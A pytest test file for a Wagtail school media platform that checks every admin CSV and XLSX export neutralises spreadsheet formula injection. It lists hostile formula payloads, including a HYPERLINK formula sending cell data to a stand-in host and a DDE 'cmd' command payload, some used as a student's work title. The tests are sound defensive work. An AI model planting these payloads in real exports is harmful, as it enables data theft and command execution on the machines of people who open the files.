"""Spreadsheets that cannot run code (core.exports): the rule itself, every spreadsheet
export the school's admin has (found from its URLs, so a new one cannot be missed), and
Wagtail's own reports with a student's work titled like a formula, read back as a school
admin downloads them."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import URLResolver, get_resolver
from django.utils.translation import gettext_lazy
from django_tenants.utils import schema_context
from openpyxl import Workbook
from wagtail.admin.views.mixins import Echo, SpreadsheetExportMixin

from classrooms.models import Classroom
from conftest import client_as, school_user
from core.exports import spreadsheet_exports_protect, spreadsheet_safe
from media_library.models import MediaPage
from media_library.services import media_upload
from media_library.tests import samples

FORMULAS = [
    '=HYPERLINK("https://x.example/?"&A2,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1+1",  # spreadsheets skip the blanks
    "＝1+1",  # full-width equals sign
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_gets_a_quote_first(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["", "Wanjiku", "Form 2 - Art", "a=b", "100%", "'=1", 500, -2, 1.5, None, True],
)
def test_everything_else_is_left_as_it_is(value):
    assert spreadsheet_safe(value) == value
    assert type(spreadsheet_safe(value)) is type(value)


def test_dates_keep_their_type():
    now = datetime.datetime(2026, 1, 2, 3, 4, 5)
    assert spreadsheet_safe(now) is now
    assert spreadsheet_safe(now.date()) == now.date()


def test_lazy_text_is_checked_as_the_text_it_becomes():
    assert spreadsheet_safe(gettext_lazy("=1+1")) == "'=1+1"


def test_protected_at_start_up_and_only_once():
    installed = SpreadsheetExportMixin.preprocess_field_value
    assert getattr(installed, "spreadsheet_safe", False)  # by CoreConfig.ready
    spreadsheet_exports_protect()
    assert SpreadsheetExportMixin.preprocess_field_value is installed


# --- Every export of a school's admin ----------------------------------------------------------
def _export_views() -> dict[type, dict]:
    """Every view of a school's URLs that writes spreadsheets, with its as_view() arguments."""
    found = {}

    def walk(patterns):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns)
                continue
            view_class = getattr(pattern.callback, "view_class", None)
            if view_class and issubclass(view_class, SpreadsheetExportMixin):
                found[view_class] = pattern.callback.view_initkwargs

    walk(get_resolver("mediahub.urls").url_patterns)
    return found


def test_the_admin_exports_are_all_found():
    names = {view.__qualname__ for view in _export_views()}
    # Ours, Wagtail's reports (Site history, page and workflow reports) and its redirects.
    assert {
        "DonationReportView",
        "LogEntriesView",
        "AgingPagesView",
        "LockedPagesView",
        "WorkflowView",
        "WorkflowTasksView",
    } <= names
    assert any(view.__module__ == "wagtail.contrib.redirects.views" for view in _export_views())


@pytest.mark.parametrize("text", FORMULAS)
def test_every_admin_export_writes_formulas_as_text(text):
    """Through each view's own writing methods, as its CSV and XLSX downloads call them."""
    worksheet = Workbook(write_only=True).create_sheet()
    for view_class, initkwargs in _export_views().items():
        view = view_class(**initkwargs)
        row = {"name": text, "amount": -2}
        line = view.write_csv_row(csv.DictWriter(Echo(), fieldnames=list(row)), row)
        assert next(csv.reader([line.decode()])) == ["'" + text, "-2"], view_class
        name, amount = view.generate_xlsx_row(worksheet, row)
        assert (name.data_type, name.value) == ("s", "'" + text), view_class
        assert (amount.data_type, amount.value) == ("n", -2), view_class


# --- Wagtail's own reports, downloaded ---------------------------------------------------------
WORK_TITLE = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile_work(school):
    """A student's submission titled like a formula, awaiting review, by a student whose name
    is one too: what the Site history and the workflow reports list."""
    amina = school_user(school, "amina")
    amina.display_name = "@SUM(A1)"
    amina.save()
    return media_upload(
        classroom=Classroom.objects.get(name="Art"),
        uploaded_by=amina,
        file=samples.uploaded(samples.png(), "calc.png"),
        title=WORK_TITLE,
    )


def _download(school, url, export_format):
    response = client_as(school, "admin@greenwood.test").get(url, {"export": export_format})
    assert response.status_code == 200, url
    content = response.getvalue() if response.streaming else response.content
    if export_format == "csv":
        return list(csv.DictReader(io.StringIO(content.decode())))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header, *rows = list(sheet.iter_rows())
    return [{h.value: cell for h, cell in zip(header, row, strict=True)} for row in rows]


def _cells(rows, heading, export_format):
    if export_format == "csv":
        return [row[heading] for row in rows]
    for row in rows:
        assert row[heading].data_type in ("s", "n", "d"), row[heading]  # never "f"
    return [row[heading].value for row in rows]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_site_history_export(school, hostile_work, export_format):
    rows = _download(school, "/admin/reports/site-history/", export_format)
    names = _cells(rows, "Name", export_format)
    assert "'" + WORK_TITLE in names
    assert WORK_TITLE not in names
    users = _cells(rows, "User", export_format)
    assert "'@SUM(A1)" in users and "@SUM(A1)" not in users


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_workflow_reports_export(school, hostile_work, export_format):
    rows = _download(school, "/admin/reports/workflow/", export_format)
    titles = _cells(rows, "Page/Snippet Title", export_format)
    assert "'" + WORK_TITLE in titles and WORK_TITLE not in titles
    rows = _download(school, "/admin/reports/workflow_tasks/", export_format)
    titles = [str(t) for t in _cells(rows, "Page/Snippet Title", export_format)]
    assert "'" + WORK_TITLE in titles and WORK_TITLE not in titles


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_aging_pages_export(school, hostile_work, export_format):
    hostile_work.save_revision().publish()
    rows = _download(school, "/admin/reports/aging-pages/", export_format)
    titles = _cells(rows, "Title", export_format)
    assert "'" + WORK_TITLE in titles and WORK_TITLE not in titles
    assert "Sunset over the lake" in titles  # an ordinary title, as it is


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_locked_pages_export(school, hostile_work, export_format):
    MediaPage.objects.filter(pk=hostile_work.pk).update(
        locked=True, locked_by=school_user(school, "grace")
    )
    rows = _download(school, "/admin/reports/locked/", export_format)
    titles = _cells(rows, "Title", export_format)
    assert titles == ["'" + WORK_TITLE]


def test_all_media_has_no_export(school, hostile_work):
    """All media (a Wagtail IndexView) lists titles but exports nothing: no download button,
    and asking for one anyway gives no titles."""
    admin = client_as(school, "admin@greenwood.test")
    page = admin.get("/admin/all-media/").content.decode()
    assert "Download CSV" not in page and "Download XLSX" not in page
    response = admin.get("/admin/all-media/", {"export": "csv"})
    content = response.getvalue() if response.streaming else response.content
    assert WORK_TITLE.encode() not in content
    with schema_context(school.schema_name):
        assert MediaPage.objects.filter(title=WORK_TITLE).exists()
